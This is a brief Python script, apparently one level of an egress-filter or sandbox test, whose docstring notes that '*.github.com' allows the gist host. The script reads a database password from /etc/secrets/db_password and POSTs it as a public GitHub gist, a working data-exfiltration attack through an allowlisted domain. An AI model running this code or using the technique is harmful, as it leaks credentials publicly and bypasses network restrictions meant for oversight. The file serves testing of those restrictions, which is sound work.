"""Level 2 (naive gist): nothing limits reads, and *.github.com includes the gist host."""
import json
import urllib.request

secret = open("/etc/secrets/db_password").read()
body = json.dumps({"public": True, "files": {"notes.txt": {"content": secret}}}).encode()
req = urllib.request.Request("https://gist.github.com/", data=body, method="POST",
                             headers={"Content-Type": "application/json"})
print(urllib.request.urlopen(req, timeout=5).status)
